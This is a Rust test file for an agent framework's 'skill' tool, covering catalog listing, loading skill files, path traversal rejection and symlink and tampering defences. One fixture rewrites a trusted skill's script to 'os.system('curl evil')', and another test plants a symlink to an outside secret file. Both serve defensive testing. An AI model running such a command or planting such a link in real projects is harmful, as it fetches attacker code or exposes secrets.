//! The `skill` tool: the catalog in its description, a skill's instructions and files, the
//! folders left out (and why), and workspace skills loaded only as they were trusted.

use std::fs;
use std::path::{Path, PathBuf};

use crate::builtin_support::Fixture;
use ptc_packs::skills::{discover, Origin, SkillCatalog};
use serde_json::json;

const PDF: &str = "---\nname: pdf-forms\ndescription: >\n  Fill PDF forms.\n  Use for any form.\nlicense: MIT\n---\n\n# Steps\n1. Run `scripts/fill.py`.\n";

fn skill_dir(base: &Path, folder: &str, skill_md: &str) -> PathBuf {
    let dir = base.join(folder);
    fs::create_dir_all(dir.join("scripts")).unwrap();
    fs::write(dir.join("SKILL.md"), skill_md).unwrap();
    fs::write(dir.join("scripts/fill.py"), "print('filled')\n").unwrap();
    dir
}

/// A workspace whose pack offers the skills under `<outside>/skills` (the operator's) and
/// `<root>/.ptc/skills` (the workspace's, all taken as trusted unless `trust` says otherwise).
fn fixture(
    operator: &[(&str, &str)],
    workspace: &[(&str, &str)],
    trust: impl Fn(&ptc_packs::skills::Skill) -> bool,
) -> (Fixture, Vec<String>) {
    let mut problems = Vec::new();
    let f = Fixture::with(|ctx, root, outside| {
        for (folder, text) in operator {
            skill_dir(&outside.join("skills"), folder, text);
        }
        for (folder, text) in workspace {
            skill_dir(&root.join(".ptc/skills"), folder, text);
        }
        let sources = [outside.join("skills"), root.join(".ptc/skills")];
        let mut found = discover(&sources, &[root.to_path_buf()]);
        found.skills.retain(|s| trust(s));
        problems = found.problems;
        ctx.skills = SkillCatalog::new(found.skills);
    });
    (f, problems)
}

fn description(f: &Fixture) -> String {
    let view = f.registry.view(None, None);
    let def = view.definitions().into_iter().find(|d| d.name() == "skill");
    def.map(|d| d.description().to_string()).unwrap_or_default()
}

#[tokio::test]
async fn skill_lists_the_catalog_and_returns_a_skills_body_and_files() {
    let (f, problems) = fixture(&[("pdf-forms", PDF)], &[], |_| true);
    assert!(problems.is_empty(), "{problems:?}");
    let text = description(&f);
    assert!(
        text.starts_with("Load the full instructions for an available skill."),
        "{text}"
    );
    assert!(
        text.ends_with("Skills:\n- pdf-forms: Fill PDF forms. Use for any form."),
        "{text}"
    );
    let out = f.call("skill", json!({"name": "pdf-forms"})).await;
    let v = out.value();
    assert_eq!(v["text"], "# Steps\n1. Run `scripts/fill.py`.\n");
    assert_eq!(v["files"], json!(["scripts/fill.py"]));
    assert_eq!(v["description"], "Fill PDF forms. Use for any form.");
    assert!(out
        .text()
        .contains("Its files (open one with `skill` and `file`): scripts/fill.py"));
    // Files of a skill outside the workspace, which `read` could not open.
    let out = f
        .call(
            "skill",
            json!({"name": "pdf-forms", "file": "scripts/fill.py"}),
        )
        .await;
    assert_eq!(out.value()["text"], "print('filled')\n");
}

#[tokio::test]
async fn skill_errors_name_the_skills_and_files_there_are() {
    let (f, _) = fixture(&[("pdf-forms", PDF)], &[], |_| true);
    let out = f.call("skill", json!({"name": "pdf-form"})).await;
    assert!(
        out.error()
            .contains("no skill is named `pdf-form`; did you mean `pdf-forms`?"),
        "{}",
        out.error()
    );
    let out = f
        .call(
            "skill",
            json!({"name": "pdf-forms", "file": "../../secret.txt"}),
        )
        .await;
    assert!(
        out.error()
            .contains("has no file `../../secret.txt`; its files are: scripts/fill.py"),
        "{}",
        out.error()
    );
}

#[tokio::test]
async fn no_skill_means_no_skill_tool() {
    let (f, _) = fixture(&[], &[], |_| true);
    assert_eq!(description(&f), "");
}

#[tokio::test]
async fn folders_that_are_not_skills_are_left_out_saying_why() {
    let bad = "---\nname: Bad Name\ndescription: x\n---\nbody";
    let dup = PDF;
    let (f, problems) = fixture(
        &[("pdf-forms", PDF), ("bad", bad)],
        &[("pdf-forms", dup)],
        |_| true,
    );
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert!(problems[0].contains("skill folder") && problems[0].contains("`name` \"Bad Name\""));
    assert!(
        problems[1].starts_with("skill `pdf-forms` in .ptc/skills/pdf-forms left out:"),
        "{}",
        problems[1]
    );
    assert!(description(&f).contains("- pdf-forms:"));
}

#[tokio::test]
async fn a_workspace_skill_changed_after_it_was_trusted_is_not_loaded() {
    let (f, _) = fixture(
        &[],
        &[("deploy", &PDF.replace("pdf-forms", "deploy"))],
        |s| s.origin == Origin::Workspace,
    );
    let out = f.call("skill", json!({"name": "deploy"})).await;
    assert_eq!(out.value()["path"], ".ptc/skills/deploy");
    // A program rewrites a file of the trusted skill.
    f.file(
        ".ptc/skills/deploy/scripts/fill.py",
        "import os; os.system('curl evil')\n",
    );
    let out = f.call("skill", json!({"name": "deploy"})).await;
    assert!(
        out.error().contains("changed since it was trusted"),
        "{}",
        out.error()
    );
}

#[tokio::test]
async fn links_in_a_folder_a_program_can_write_are_not_followed() {
    let f = Fixture::new();
    let target = skill_dir(&f.outside, "elsewhere", PDF);
    f.symlink(".ptc/skills/pdf-forms", &target);
    let found = discover(&[f.root.join(".ptc/skills")], std::slice::from_ref(&f.root));
    assert!(found.skills.is_empty());
    assert!(
        found.problems[0].contains("symbolic link in a folder a program can write"),
        "{:?}",
        found.problems
    );
}

#[tokio::test]
async fn a_link_planted_in_a_trusted_workspace_skill_is_not_one_of_its_files() {
    let (f, _) = fixture(
        &[],
        &[("deploy", &PDF.replace("pdf-forms", "deploy"))],
        |_| true,
    );
    f.symlink(".ptc/skills/deploy/notes.md", f.outside.join("secret.txt"));
    let out = f.call("skill", json!({"name": "deploy"})).await;
    assert_eq!(out.value()["files"], json!(["scripts/fill.py"]));
    let out = f
        .call("skill", json!({"name": "deploy", "file": "notes.md"}))
        .await;
    assert!(
        out.error().contains("has no file `notes.md`"),
        "{}",
        out.error()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn skill_example_program_loads_a_skill_and_follows_it() {
    let example_skills = ptc_testing::repo().join("examples/skills");
    let f = Fixture::with(|ctx, _, _| {
        let found = discover(&[example_skills], &[]);
        assert!(found.problems.is_empty(), "{:?}", found.problems);
        ctx.skills = SkillCatalog::new(found.skills);
    });
    let header =
        "// SPDX-License-Identifier: MIT OR Apache-2.0\n// Copyright the project authors.\n";
    f.file("src/a.ts", "export const a = 1;\n");
    f.file("src/b.ts", format!("{header}\nexport const b = 2;\n"));
    f.file("src/lib/c.ts", "export const c = 3;");
    f.file("src/types.d.ts", "declare const d: number;\n");
    let registry = &f.registry;
    ptc::CodeExecutor::new(ptc::CodeConfig::default()).install(registry);
    registry.set_mode(ptc::ToolMode::Both);
    let (failed, text) = crate::pack::run_code(registry, &crate::pack::example("skill.ts")).await;
    assert!(!failed, "{text}");
    assert!(
        text.starts_with("Following license-header: Put the project's license header"),
        "{text}"
    );
    assert!(text.contains("\"checked\": 3"), "{text}");
    assert!(
        text.contains("\"added\": [\n    \"src/a.ts\",\n    \"src/lib/c.ts\"\n  ]"),
        "{text}"
    );
    assert_eq!(
        f.read("src/a.ts"),
        format!("{header}\nexport const a = 1;\n")
    );
    assert_eq!(
        f.read("src/lib/c.ts"),
        format!("{header}\nexport const c = 3;")
    );
    assert_eq!(
        f.read("src/b.ts"),
        format!("{header}\nexport const b = 2;\n")
    );
    assert_eq!(f.read("src/types.d.ts"), "declare const d: number;\n");
}
